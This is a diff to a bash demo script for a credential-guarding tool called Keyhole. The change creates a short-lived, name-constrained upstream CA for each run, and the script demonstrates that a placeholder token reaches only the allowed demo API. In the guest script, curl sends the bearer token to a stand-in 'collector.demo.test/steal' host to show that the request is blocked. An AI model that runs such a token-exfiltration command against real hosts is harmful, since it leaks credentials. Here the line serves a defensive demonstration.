@@ -1,7 +1,10 @@
 #!/usr/bin/env bash
 # Keyhole's main job, end to end, on the builtin defaults and with no internet:
-#   - a local "internet" (a network namespace) with a DNS server and a demo API over TLS;
-#   - `keyhole run policies/demo.yaml -- …` boots the builtin guest behind Keyhole;
+#   - a local "internet" (a network namespace) with a DNS server and a demo API over TLS,
+#     its certificate from an upstream CA made afresh for this run (ECDSA P-256, names under
+#     .demo.test only, no IP address) in the work folder: no CA key is ever kept;
+#   - `keyhole run` on policies/demo.yaml plus `upstream_ca: [that CA]` (a copy in the work
+#     folder) boots the builtin guest behind Keyhole;
 #   - in the guest, curl calls the API with the placeholder $DEMO_API_TOKEN: the API
 #     receives the real token; the same placeholder sent to another host is blocked;
 #   - a short summary. Everything the demo creates is removed on exit.
@@ -12,8 +15,8 @@ keyhole=$root/.build/debug/keyhole
 state=${KEYHOLE_STATE_DIR:-$root/.keyhole-demo}
 id=khdemo$$
 A=$id-a I=$id-i
-work=/tmp/keyhole-demo-$$
-mkdir -p "$work" "$state"
+work=$(mktemp -d /tmp/keyhole-demo-XXXXXX)  # mode 0700: it holds this run's upstream CA key
+mkdir -p "$state"
 
 cleanup() {
   for ns in $A $I; do
@@ -47,11 +50,30 @@ ip -n $I addr add 203.0.113.10/32 dev lo && ip -n $I addr add 203.0.113.66/32 de
 mkdir -p /etc/netns/$A && echo "nameserver 198.51.100.53" > /etc/netns/$A/resolv.conf
 ip netns exec $I dnsmasq --no-resolv --no-hosts --listen-address=198.51.100.53 --bind-interfaces --port=53 \
   --address=/api.demo.test/203.0.113.10 --address=/collector.demo.test/203.0.113.66 --pid-file=$work/dnsmasq.pid
+echo "== an upstream CA for this run only, deleted on exit: ECDSA P-256, names under .demo.test, no IP address"
+# It can vouch for names under .demo.test and nothing else, never for an IP address, and
+# cannot sign another CA. It signs the two APIs' certificates and is keyhole's upstream_ca.
+cat > $work/upstream-ca.cnf <<'EOF'
+[req]
+distinguished_name = dn
+x509_extensions = upstream_ca
+prompt = no
+[dn]
+CN = Keyhole demo upstream CA (for *.demo.test only)
+[upstream_ca]
+basicConstraints = critical, CA:TRUE, pathlen:0
+keyUsage = critical, keyCertSign, cRLSign
+subjectKeyIdentifier = hash
+authorityKeyIdentifier = keyid:always
+nameConstraints = critical, permitted;DNS:.demo.test, excluded;IP:0.0.0.0/0.0.0.0, excluded;IP:::/::
+EOF
+openssl req -x509 -config $work/upstream-ca.cnf -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+  -keyout $work/upstream-ca.key -out $work/upstream-ca.pem -days 1 2>/dev/null
 for name in api collector; do
   openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $work/$name.key -out $work/$name.csr \
     -subj "/CN=$name.demo.test" 2>/dev/null
   printf "subjectAltName=DNS:$name.demo.test\nextendedKeyUsage=serverAuth\n" > $work/$name.ext
-  openssl x509 -req -in $work/$name.csr -CA demo/upstream-ca.pem -CAkey demo/upstream-ca.key -CAcreateserial \
+  openssl x509 -req -in $work/$name.csr -CA $work/upstream-ca.pem -CAkey $work/upstream-ca.key -CAcreateserial \
     -CAserial $work/ca.srl -out $work/$name.pem -days 1 -extfile $work/$name.ext 2>/dev/null
 done
 ip netns exec $I python3 demo/demo-api.py --bind 203.0.113.10 --name api.demo.test --cert $work/api.pem \
@@ -62,7 +84,12 @@ ip netns exec $I python3 demo/demo-api.py --bind 203.0.113.66 --name collector.d
 disown
 for _ in $(seq 50); do grep -q ready $work/api.ready $work/collector.ready 2>/dev/null && [ "$(cat $work/*.ready | grep -c ready)" = 2 ] && break; sleep 0.1; done
 
-echo "== keyhole run policies/demo.yaml -- sh -c '…'   (the guest's view follows)"
+# The policy keyhole runs: policies/demo.yaml, which names no upstream CA, plus this run's.
+awk -v ca="$work/upstream-ca.pem" '{ print } /^network:[[:space:]]*$/ { print "  upstream_ca: [" ca "]" }' \
+  policies/demo.yaml > $work/demo.yaml
+grep -qxF "  upstream_ca: [$work/upstream-ca.pem]" $work/demo.yaml || { echo "demo: policies/demo.yaml has no 'network:' block"; exit 1; }
+
+echo "== keyhole run $work/demo.yaml -- sh -c '…'   (policies/demo.yaml + this run's upstream_ca; the guest's view follows)"
 guest_script='
 echo "guest: DEMO_API_TOKEN=$DEMO_API_TOKEN"
 echo "guest: curl https://api.demo.test/whoami with the placeholder"
@@ -71,7 +98,7 @@ echo "guest: the same placeholder to https://collector.demo.test/steal"
 if curl -sS --max-time 20 -H "Authorization: Bearer $DEMO_API_TOKEN" https://collector.demo.test/steal; then echo "guest: sent!"; else echo "guest: blocked (curl exit $?)"; fi
 '
 status=0
-ip netns exec $A $keyhole run --state-dir "$state" --audit-log $work/audit.log policies/demo.yaml -- sh -c "$guest_script" || status=$?
+ip netns exec $A $keyhole run --state-dir "$state" --audit-log $work/audit.log $work/demo.yaml -- sh -c "$guest_script" || status=$?
 
 echo
 echo "== summary"
